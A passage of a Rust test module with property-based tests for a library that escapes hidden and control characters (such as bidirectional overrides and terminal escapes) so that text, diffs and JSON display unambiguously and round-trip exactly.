        assert_eq!(clip_line("\u{202e}abc", 2), "\\u{202e}a...");
        assert_eq!(clip_line("ab", 2), "ab");
    }

    #[test]
    fn no_two_short_strings_over_the_tricky_alphabet_show_the_same() {
        let alphabet = ['\\', 'e', 'n', 'u', '{', '}', '\n', '\u{1b}', '\u{202e}'];
        let mut all = vec![String::new()];
        let mut layer = vec![String::new()];
        for _ in 0..4 {
            layer = layer
                .iter()
                .flat_map(|s| alphabet.iter().map(move |c| format!("{s}{c}")))
                .collect();
            all.extend(layer.iter().cloned());
        }
        for mode in [Mode::Line, Mode::Text] {
            let mut seen = std::collections::HashMap::new();
            for s in &all {
                let shown = escape(s, mode);
                if let Some(other) = seen.insert(shown.clone(), s.clone()) {
                    panic!("{other:?} and {s:?} both show as {shown:?} in {mode:?}");
                }
            }
            assert_eq!(seen.len(), all.len());
        }
    }

    /// Any string, biased towards the characters that matter here.
    fn text() -> impl Strategy<Value = String> {
        let interesting = prop_oneof![
            Just('\\'),
            Just('e'),
            Just('r'),
            Just('n'),
            Just('t'),
            Just('u'),
            Just('{'),
            Just('}'),
            Just('\n'),
            Just('\t'),
            Just('\r'),
            Just('\u{1b}'),
            Just('\u{202e}'),
            Just('\u{200b}'),
            Just('\u{85}'),
            Just('\u{2028}'),
            Just('\u{fe0f}'),
            Just('\u{e0001}'),
            Just('\u{301}'),
            Just('\u{1161}'),
            prop::char::range('\0', '\u{24f}'),
            prop::char::range('\u{2000}', '\u{206f}'),
        ];
        prop::collection::vec(prop_oneof![3 => interesting, 1 => any::<char>()], 0..40)
            .prop_map(|chars| chars.into_iter().collect())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]

        #[test]
        fn escaped_output_holds_no_hidden_character(s in text()) {
            let line = escape_line(&s);
            prop_assert!(!line.chars().any(is_hidden), "{line:?}");
            let text = escape_text(&s);
            prop_assert!(!text.chars().any(|c| c != '\n' && c != '\t' && is_hidden(c)), "{text:?}");
            let diff = show_diff(&s).text;
            prop_assert!(!diff.chars().any(|c| c != '\n' && c != '\t' && is_hidden(c)), "{diff:?}");
        }

        #[test]
        fn unescape_recovers_the_original(s in text()) {
            for mode in [Mode::Line, Mode::Text] {
                let shown = escape(&s, mode);
                prop_assert_eq!(unescape(&shown, mode), Ok(s.clone()));
                prop_assert_eq!(is_verbatim(&s, mode), shown == s);
            }
        }

        #[test]
        fn two_different_inputs_never_show_the_same(a in text(), b in text()) {
            prop_assume!(a != b);
            prop_assert_ne!(escape_line(&a), escape_line(&b));
            prop_assert_ne!(escape_text(&a), escape_text(&b));
        }

        #[test]
        fn unescape_accepts_only_what_escape_produces(s in text()) {
            for mode in [Mode::Line, Mode::Text] {
                if let Ok(original) = unescape(&s, mode) {
                    prop_assert_eq!(escape(&original, mode), s.clone());
                }
            }
        }

        #[test]
        fn diff_lines_keep_their_count_and_unflagged_lines_are_verbatim(s in text()) {
            let shown = show_diff(&s);
            prop_assert_eq!(shown.text.matches('\n').count(), s.matches('\n').count());
            for (orig, line) in s.split('\n').zip(shown.text.split('\n')) {
                if let Some(escaped) = line
                    .strip_suffix(HIDDEN_NOTE)
                    .or_else(|| line.strip_suffix(BACKSLASH_NOTE))
                    .and_then(|l| l.strip_suffix("  "))
                    .filter(|_| !is_verbatim(orig, Mode::Text))
                {
                    prop_assert_eq!(unescape(escaped, Mode::Text), Ok(orig.to_string()));
                } else {
                    prop_assert_eq!(line, orig);
                }
            }
        }

        // Its two failing cases (a `\\u{` split over pieces) are in proptest-regressions.
        #[test]
        fn streaming_in_any_pieces_writes_what_escaping_the_whole_writes(
            s in text(),
            cuts in prop::collection::vec(0usize..40, 0..6),
        ) {
            let chars: Vec<char> = s.chars().collect();
            let mut cuts: Vec<usize> = cuts.into_iter().map(|c| c.min(chars.len())).collect();
            cuts.sort_unstable();
            for mode in [Mode::Line, Mode::Text] {
                let mut stream = StreamEscaper::new(mode);
                let mut shown = String::new();
                let mut from = 0;
                for &cut in cuts.iter().chain(std::iter::once(&chars.len())) {
                    let piece: String = chars[from..cut].iter().collect();
                    shown.push_str(&stream.push(&piece));
                    from = cut;
                }
                shown.push_str(&stream.finish());
                prop_assert_eq!(shown, escape(&s, mode));
            }
        }

        /// The same properties past the tab column.
        #[test]
        fn long_lines_round_trip_and_stay_apart(
            n in 55usize..70,
            a in text(),
            b in text(),
        ) {
            let (a, b) = (format!("{}{a}", "x".repeat(n)), format!("{}{b}", "x".repeat(n)));
            for mode in [Mode::Line, Mode::Text] {
                let shown = escape(&a, mode);
                prop_assert_eq!(unescape(&shown, mode), Ok(a.clone()));
                if a != b {
                    prop_assert_ne!(shown, escape(&b, mode));
                }
                let mut stream = StreamEscaper::new(mode);
                let mut mid = a.len() / 2;
                while !a.is_char_boundary(mid) {
                    mid -= 1;
                }
                let (head, tail) = a.split_at(mid);
                let streamed = stream.push(head) + &stream.push(tail) + &stream.finish();
                prop_assert_eq!(streamed, escape(&a, mode));
            }
            let text = escape_text(&a);
            prop_assert!(!text.chars().any(|c| c != '\n' && c != '\t' && is_hidden(c)));
        }

        #[test]
        fn json_safe_round_trips(s in text()) {
            let doc = serde_json::to_string(&serde_json::json!({"k": s.clone()})).unwrap();
            let safe = json_safe(&doc);
            prop_assert!(!safe.chars().any(is_hidden), "{safe:?}");
            let back: serde_json::Value = serde_json::from_str(&safe).unwrap();
            prop_assert_eq!(back["k"].as_str(), Some(s.as_str()));
        }
    }
}
